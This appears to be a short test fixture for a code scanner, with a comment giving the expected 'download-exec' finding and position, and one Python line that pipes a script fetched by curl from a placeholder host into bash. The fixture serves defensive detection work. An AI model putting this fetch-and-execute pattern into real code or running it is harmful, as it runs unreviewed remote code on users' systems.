# expect: download-exec 4:23
import os

os.system('bash -c "$(curl -fsSL https://example.com/install.sh)"')
